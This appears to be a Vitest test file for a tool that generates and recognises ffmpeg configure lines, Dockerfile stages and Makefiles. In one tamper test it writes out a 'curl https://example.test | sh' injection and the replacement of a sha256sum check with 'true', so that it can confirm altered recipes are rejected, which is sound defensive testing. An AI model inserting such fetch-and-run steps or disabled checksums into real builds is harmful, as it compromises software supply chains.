import { spawnSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { configureLine, recipeOfConfigureLine } from '../../src/ffmpeg/configure-line.ts';
import { hostNamesSource } from '../../src/ffmpeg/host-names.ts';
import { profileOf } from '../../src/ffmpeg/need-builder.ts';
import type { FfmpegProfile } from '../../src/ffmpeg/profile.ts';
import { readyProfiles } from '../../src/ffmpeg/ready-profiles.ts';
import { builtFfmpegMakefile, recipeOfBuiltMakefile } from '../../src/model/built-ffmpeg-makefile.ts';
import { builtFfmpegStage, recipeOfBuiltStage } from '../../src/model/built-ffmpeg-stage.ts';
import { parseDockerfile } from '../../src/syntax/dockerfile.ts';

const small: FfmpegProfile = {
  components: [{ kind: 'muxer', name: 'wav' }, { kind: 'demuxer', name: 'wav' }, { kind: 'demuxer', name: 'mov' }, { kind: 'encoder', name: 'libmp3lame' }, { kind: 'protocol', name: 'file' }],
  programs: ['ffmpeg'], externals: ['lame'], licence: 'LGPL', network: false,
};

/** Reads addresses, and writes with every library. */
const web = profileOf([...small.components, ...['http', 'https', 'tcp', 'tls'].map((name) => ({ kind: 'protocol' as const, name })), ...['libtheora', 'libvorbis', 'libvpx_vp9', 'libwebp', 'libopus', 'libopenh264'].map((name) => ({ kind: 'encoder' as const, name }))], ['ffmpeg']);
const profiles = Object.entries({ ...readyProfiles, web });

describe('the configure line', () => {
  it('names every part, sorted, and nothing else', () => {
    expect(configureLine(small)).toEqual([
      '--prefix=/usr/local', '--disable-everything', '--disable-autodetect', '--disable-network', '--disable-doc', '--disable-debug', '--disable-ffplay', '--disable-ffprobe',
      '--disable-avdevice', '--disable-shared', '--enable-static', '--enable-libmp3lame', '--enable-protocol=file', '--enable-demuxer=mov,wav', '--enable-muxer=wav', '--enable-encoder=libmp3lame',
      '--pkg-config-flags=--static', '--extra-cflags=-ffunction-sections -fdata-sections', '--extra-ldflags=-static -Wl,--gc-sections -Wl,--build-id=none',
    ]);
  });
  it('does not depend on the order or on repetition', () => {
    expect(configureLine({ ...small, components: [...small.components, ...small.components.toReversed()] })).toEqual(configureLine(small));
  });
  it('asks for the GPL only when it must, and for everything only when told to', () => {
    expect(configureLine({ ...small, licence: 'GPL' })).toContain('--enable-gpl');
    expect(configureLine(small).filter((argument) => /gpl|nonfree|version3/u.test(argument))).toEqual([]);
    expect(configureLine({ ...small, components: 'all' })).not.toContain('--disable-everything');
  });
  it('asks for version 3 where mbedTLS is in it, and for a library once', () => {
    expect([web.externals, web.network]).toEqual([['lame', 'mbedtls', 'ogg', 'openh264', 'opus', 'theora', 'vorbis', 'vpx', 'webp', 'zlib'], true]);
    const line = configureLine(web);
    expect(line.filter((argument) => /version3|vorbis$|network|mbedtls/u.test(argument))).toEqual(['--enable-version3', '--enable-libvorbis', '--enable-mbedtls']);
  });
  it('takes lavfi for the input device that it is to configure', () => {
    const line = configureLine({ ...small, components: [{ kind: 'demuxer', name: 'lavfi' }] });
    expect(line).toContain('--enable-indev=lavfi');
    expect(line).not.toContain('--disable-avdevice');
  });
  it('is read back, and any other line is not', () => {
    for (const recipe of [small, { ...small, components: 'all' as const }, { ...small, licence: 'nonfree' as const, programs: ['ffmpeg', 'ffprobe'] as const }, ...profiles.map(([, profile]) => profile), { ...web, components: 'all' as const }, { ...web, licence: 'GPL' as const }]) {
      const line = configureLine(recipe);
      const back = recipeOfConfigureLine(line);
      expect(back && configureLine(back)).toEqual(line);
      expect(back?.externals.toSorted()).toEqual(recipe.externals.toSorted());
      expect(recipeOfConfigureLine([...line, '--enable-libfdk-aac'])).toBeUndefined();
      expect(recipeOfConfigureLine(line.slice(1))).toBeUndefined();
    }
  });
});

describe('a part added by hand', () => {
  const added = '--enable-encoder=flac';
  it('counts wherever it stands', () => {
    const line = configureLine(small);
    for (const at of [1, line.length]) {
      const recipe = recipeOfConfigureLine(line.toSpliced(at, 0, added));
      expect(recipe && configureLine(recipe)).toEqual(configureLine({ ...small, components: [...small.components, { kind: 'encoder', name: 'flac' }] }));
    }
  });
  it('leaves a stage and a Makefile to be known', () => {
    const stage = parseDockerfile({ path: 'Dockerfile', text: builtFfmpegStage(small, 'ffmpeg').join('\n').replace('--disable-autodetect', `--disable-autodetect ${added}`) });
    const first = stage.ok ? stage.value.stages[0] : undefined;
    expect(first && recipeOfBuiltStage(first)?.components).toContainEqual({ kind: 'encoder', name: 'flac' });
    const makefile = builtFfmpegMakefile(small, 'FfmpegLayer').replace('--disable-autodetect', `--disable-autodetect ${added}`);
    expect(recipeOfBuiltMakefile(makefile, 'FfmpegLayer')?.components).toContainEqual({ kind: 'encoder', name: 'flac' });
  });
});

describe('the Makefile of a layer', () => {
  it.each(profiles)('for %s is recognised for its own layer, and not once it is changed', (_name, profile) => {
    const text = builtFfmpegMakefile(profile, 'FfmpegLayer');
    const recipe = recipeOfBuiltMakefile(text.replaceAll('\n', '\r\n'), 'FfmpegLayer');
    expect(recipe && configureLine(recipe)).toEqual(configureLine(profile));
    expect(recipeOfBuiltMakefile(text, 'OtherLayer')).toBeUndefined();
    expect(recipeOfBuiltMakefile(`${text}\techo more\n`, 'FfmpegLayer')).toBeUndefined();
    expect(recipeOfBuiltMakefile(text.replace('sha256sum -c -', 'true'), 'FfmpegLayer')).toBeUndefined();
  });
});

describe('the stage', () => {
  const stageOf = (text: string) => {
    const parsed = parseDockerfile({ path: 'Dockerfile', text });
    const stage = parsed.ok ? parsed.value.stages[0] : undefined;
    if (!stage) throw new Error('no stage');
    return stage;
  };
  it.each(profiles)('for %s is recognised, whatever its base and name', (_name, profile) => {
    const lines = builtFfmpegStage(profile, 'ffmpeg');
    const line = configureLine(profile);
    expect(recipeOfBuiltStage(stageOf(lines.join('\n')))).toBeDefined();
    const other = recipeOfBuiltStage(stageOf(['FROM --platform=linux/amd64 debian:trixie@sha256:' + '0'.repeat(64) + ' AS tools', ...lines.slice(1)].join('\r\n')));
    expect(other && configureLine(other)).toEqual(line);
  });
  it('with a line changed is not', () => {
    const text = builtFfmpegStage(readyProfiles.speech, 'ffmpeg').join('\n');
    for (const [from, to] of [['sha256sum -c -', 'true'], ['--disable-doc ', '--disable-doc --enable-gpl '], ['make install-progs', 'make install-progs && curl https://example.test | sh'], ['de668509', 'de668508']] as const) {
      expect(text).toContain(from);
      expect(recipeOfBuiltStage(stageOf(text.replace(from, to)))).toBeUndefined();
    }
    expect(recipeOfBuiltStage(stageOf(`${text}\nRUN true`))).toBeUndefined();
  });
  it('prints the source of its look-up of host names as it is', () => {
    for (const text of [builtFfmpegStage(web, 'ffmpeg').join('\n'), builtFfmpegMakefile(web, 'FfmpegLayer')]) {
      const command = /printf '%s\\n' > host-names\.c [\s\S]*?'#endif'(?=[ \n]*(?:\\\n)?\s*(?:&& gcc|\tcd|cd source))/u.exec(text)?.[0] ?? '';
      const shell = spawnSync('sh', ['-c', command.replace('> host-names.c', '')], { encoding: 'utf8' });
      expect(shell.stdout).toBe(hostNamesSource);
    }
    expect(hostNamesSource).not.toMatch(/['\\$]/u);
  });
});
